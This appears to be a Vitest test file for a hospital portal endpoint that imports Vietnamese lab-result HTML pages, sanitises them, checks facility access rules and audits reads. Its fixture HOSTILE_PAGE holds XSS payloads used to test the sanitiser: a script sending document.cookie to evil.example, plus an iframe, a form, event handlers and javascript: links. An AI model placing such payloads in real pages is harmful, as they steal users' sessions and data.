import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { historiesResponse } from '@portal/shared/contracts/patients.contract';
import { bearer, createTestApp, login, makeFacility, sqlRows, type TestApp } from '../../test/test-app';
import { makeHistory, makePatients } from './patients.fixtures';
import { declaredCharset, decodeHtml, HTML_MESSAGES, pageOutline } from './result-documents';

let t: TestApp;
let dataDir: string;
let tok: { user: string; appt: string; other: string };
let userId: number;
let historyId: number;
let otherHistoryId: number;

const H = '/api/his/v1/vendor/histories';
const D = '/api/his/v1/vendor/result-documents';
const importHtml = (id: number, html: string | Buffer, token: string | null = tok.user, fileName = 'KQ xét nghiệm.html') =>
  t.app.inject({
    method: 'POST',
    url: `${H}/${id}/from-html?fileName=${encodeURIComponent(fileName)}`,
    headers: { ...(token ? bearer(token) : {}), 'content-type': 'text/html' },
    payload: typeof html === 'string' ? Buffer.from(html, 'utf8') : html,
  });
const count = async () => (await sqlRows<{ n: number }>(t, sql`SELECT count(*)::int AS n FROM result_documents`))[0]!.n;
const audits = (action: string) => sqlRows<{ after: Record<string, unknown> }>(t, sql`SELECT after FROM audit_log WHERE action = ${action} ORDER BY id`);

/** A page as a hospital system exports it, with what must not survive. */
const HOSTILE_PAGE = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Phiếu kết quả xét nghiệm huyết học</title>
<style>body{background:url(https://tracker.example/p.gif)}</style>
<script>fetch('https://evil.example/?c='+document.cookie)</script></head>
<body onload="alert(1)">
<h1>PHIẾU KẾT QUẢ XÉT NGHIỆM</h1>
<img src="https://his.benhvien.vn/logo.png" alt="logo">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="chữ ký">
<iframe src="https://evil.example/frame"></iframe>
<table><tr><th>Chỉ số</th><th>Kết quả</th></tr>
<tr><td onclick="steal()">Glucose</td><td style="color:red">5,6 mmol/L</td></tr></table>
<a href="javascript:alert(2)">Xem thêm</a>
<form action="https://evil.example"><input name="x"></form>
<svg><script>alert(3)</script></svg>
<p>Bác sĩ: <b>Trần Thị Mai</b></p>
</body></html>`;

beforeAll(async () => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'result-docs-test-'));
  t = await createTestApp({ DATA_DIR: dataDir });
  const a = await makeFacility(t, [
    { key: 'user', authorities: ['MANAGER_USER'] },
    { key: 'appt', authorities: ['MANAGER_APPOINTMENT'] },
  ]);
  const b = await makeFacility(t, [{ key: 'user', authorities: ['MANAGER_USER'] }]);
  tok = {
    user: (await login(t, a.accounts.user!)).loginToken,
    appt: (await login(t, a.accounts.appt!)).loginToken,
    other: (await login(t, b.accounts.user!)).loginToken,
  };
  await t.database.transaction(async (tx) => {
    const [inA] = await makePatients(tx, a.facilityId, [{ profiles: [{ fullName: 'Nguyễn Văn An', birthDate: '1990-03-15' }] }]);
    const [inB] = await makePatients(tx, b.facilityId, [{ profiles: [{ fullName: 'Lê Thị Bình', birthDate: '1980-01-01' }] }]);
    userId = inA!.userId;
    historyId = (await makeHistory(tx, a.facilityId, inA!.userId, inA!.profiles[0]!.id)).id;
    otherHistoryId = (await makeHistory(tx, b.facilityId, inB!.userId, inB!.profiles[0]!.id)).id;
  });
});
afterAll(async () => {
  await t.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

describe('POST /histories/{id}/from-html', () => {
  let docId: number;

  it('imports a hospital page into the visit, sanitised: no script, frame, form, handler, style or external image', async () => {
    const res = await importHtml(historyId, HOSTILE_PAGE);
    expect(res.statusCode, res.body).toBe(200);
    const { data, message } = res.json();
    expect(message).toBe(HTML_MESSAGES.importedDropped.replace('{n}', '2'));
    expect(data).toMatchObject({ historyId, title: 'Phiếu kết quả xét nghiệm huyết học', sourceName: 'KQ xét nghiệm', droppedImages: 2 });
    const html: string = data.html;
    expect(html).toContain('<h2>PHIẾU KẾT QUẢ XÉT NGHIỆM</h2>');
    expect(html).toContain('<td>Glucose</td><td>5,6 mmol/L</td>');
    expect(html).toContain('<b>Trần Thị Mai</b>');
    for (const bad of [
      '<script',
      'alert',
      'fetch(',
      '<iframe',
      'evil.example',
      'tracker.example',
      '<img',
      'data:',
      'onload',
      'onclick',
      'style',
      '<form',
      '<input',
      '<svg',
      'javascript:',
      'steal',
    ])
      expect(html, bad).not.toContain(bad);
    docId = data.id;
    // stored as sanitised, with its text, in one transaction with its audit row
    const [row] = await sqlRows<{ html: string; text: string }>(t, sql`SELECT html, text FROM result_documents WHERE id = ${docId}`);
    expect(row!.html).toBe(html);
    expect(row!.text).toContain('Glucose 5,6 mmol/L');
    const [audit] = await audits('IMPORT_RESULT_HTML');
    expect(audit!.after).toMatchObject({ historyId, userId, droppedImages: 2, title: 'Phiếu kết quả xét nghiệm huyết học' });
  });

  it('shows it with its visit in the record, and serves it to print, audited as a record read', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/api/his/v1/vendor/users/${userId}/histories`, headers: bearer(tok.user) });
    const visit = historiesResponse.parse(res.json()).data.histories.find((h) => h.id === historyId)!;
    expect(visit.documents).toEqual([expect.objectContaining({ id: docId, title: 'Phiếu kết quả xét nghiệm huyết học', droppedImages: 2 })]);
    expect(JSON.stringify(visit.documents)).not.toContain('<table'); // the list carries no HTML

    const before = (await audits('READ_RECORD')).length;
    const one = await t.app.inject({ method: 'GET', url: `${D}/${docId}`, headers: bearer(tok.user) });
    expect(one.statusCode).toBe(200);
    expect(one.json().data).toMatchObject({ id: docId, historyId, createdBy: expect.any(String) });
    expect(one.json().data.html).toContain('<table>');
    const reads = await audits('READ_RECORD');
    expect(reads.length).toBe(before + 1);
    expect(reads.at(-1)!.after).toMatchObject({ what: 'result-document', documentId: docId });
  });

  it('refuses what is not a usable HTML page with a Vietnamese message, and stores nothing', async () => {
    const before = await count();
    const pdf = Buffer.from('%PDF-1.4 ...');
    const cases: [string | Buffer, number, string][] = [
      ['', 400, HTML_MESSAGES.empty],
      ['<html><body><script>alert(1)</script><img src="https://x.example/a.png"></body></html>', 400, HTML_MESSAGES.noContent],
      [Buffer.from([0x3c, 0x70, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x70, 0x3e]), 400, HTML_MESSAGES.encoding], // bad UTF-8
      [pdf, 415, HTML_MESSAGES.notHtml],
      [Buffer.alloc(2 * 1024 * 1024 + 1, 0x20), 413, HTML_MESSAGES.tooLarge],
    ];
    for (const [body, status, message] of cases) {
      const res = await importHtml(historyId, body);
      expect(res.statusCode, message).toBe(status);
      expect(res.json().message, message).toBe(message);
    }
    const noName = await t.app.inject({
      method: 'POST',
      url: `${H}/${historyId}/from-html`,
      headers: { ...bearer(tok.user), 'content-type': 'text/html' },
      payload: '<p>x</p>',
    });
    expect(noName.statusCode).toBe(400);
    expect((await t.app.inject({ method: 'POST', url: `${H}/abc/from-html?fileName=a.html`, headers: bearer(tok.user), payload: '<p>x</p>' })).statusCode).toBe(
      400,
    );
    expect(await count()).toBe(before);
  });

  it('needs a session and MANAGER_USER; another facility’s visit and page are not found', async () => {
    const before = await count();
    expect((await importHtml(historyId, '<p>Kết quả</p>', null)).statusCode).toBe(401);
    expect((await importHtml(historyId, '<p>Kết quả</p>', tok.appt)).statusCode).toBe(403);
    const foreign = await importHtml(historyId, '<p>Kết quả</p>', tok.other);
    expect(foreign.statusCode).toBe(404);
    expect(foreign.json().message).toBe(HTML_MESSAGES.visitNotFound);
    expect((await importHtml(otherHistoryId, '<p>Kết quả</p>')).statusCode).toBe(404);
    expect((await importHtml(999_999, '<p>Kết quả</p>')).statusCode).toBe(404);
    expect(await count()).toBe(before);
    expect((await t.app.inject({ method: 'GET', url: `${D}/${docId}`, headers: bearer(tok.other) })).statusCode).toBe(404);
    expect((await t.app.inject({ method: 'GET', url: `${D}/${docId}` })).statusCode).toBe(401);
    expect((await t.app.inject({ method: 'GET', url: `${D}/${docId}`, headers: bearer(tok.appt) })).statusCode).toBe(403);
    expect((await t.app.inject({ method: 'GET', url: `${D}/abc`, headers: bearer(tok.user) })).statusCode).toBe(400);
  });

  it('keeps a page without a title under its file name (no folder, no extension)', async () => {
    const res = await importHtml(historyId, '<p>Siêu âm ổ bụng: bình thường</p>', tok.user, 'C:\\HIS\\sieu-am.htm');
    expect(res.json().data).toMatchObject({ title: 'sieu-am', sourceName: 'sieu-am', droppedImages: 0 });
    expect(res.json().message).toBe(HTML_MESSAGES.imported);
  });
});

describe('decodeHtml and pageOutline', () => {
  it.each<[string, Buffer, string]>([
    ['UTF-8', Buffer.from('<p>Hà Nội</p>'), '<p>Hà Nội</p>'],
    ['UTF-8 with a BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<p>Đạt</p>')]), '<p>Đạt</p>'],
    ['UTF-16LE with a BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<p>Bình</p>', 'utf16le')]), '<p>Bình</p>'],
    ['windows-1252 declared', Buffer.from('<meta charset="windows-1252"><p>caf\xe9</p>', 'latin1'), '<meta charset="windows-1252"><p>café</p>'],
  ])('decodes %s', (_label, bytes, text) => {
    expect(decodeHtml(bytes)).toBe(text);
  });

  it.each<[string, string | null]>([
    ['<meta charset="windows-1258">', 'windows-1258'],
    ["<META CHARSET='UTF-8'/>", 'utf-8'],
    ['<meta http-equiv="Content-Type" content="text/html; charset=windows-1258">', 'windows-1258'],
    ['<meta charset = utf-8>', 'utf-8'],
    ['<p>charset=latin1</p>', null],
    ['<meta name="x"><p>charset=latin1</p>', null],
    ['<html><head><title>x</title>', null],
  ])('reads the declared charset of %j', (head, label) => {
    expect(declaredCharset(head)).toBe(label);
  });

  it('refuses an unknown declared charset and broken UTF-8', () => {
    expect(() => decodeHtml(Buffer.from('<meta charset="klingon-9"><p>x</p>'))).toThrow(HTML_MESSAGES.encoding);
    expect(() => decodeHtml(Buffer.from([0xc3, 0x28]))).toThrow(HTML_MESSAGES.encoding);
  });

  it.each<[string, string, { title: string; images: number }]>([
    ['a title', '<title> Kết  quả </title><h1>Khác</h1>', { title: 'Kết quả', images: 0 }],
    ['the first heading', '<h2>Phiếu &amp; kết quả</h2><h1>Sau</h1><img src="a"><img src="b">', { title: 'Phiếu & kết quả', images: 2 }],
    ['nothing', '<p>x</p>', { title: '', images: 0 }],
  ])('outlines a page with %s', (_label, html, outline) => {
    expect(pageOutline(html)).toEqual(outline);
  });
});
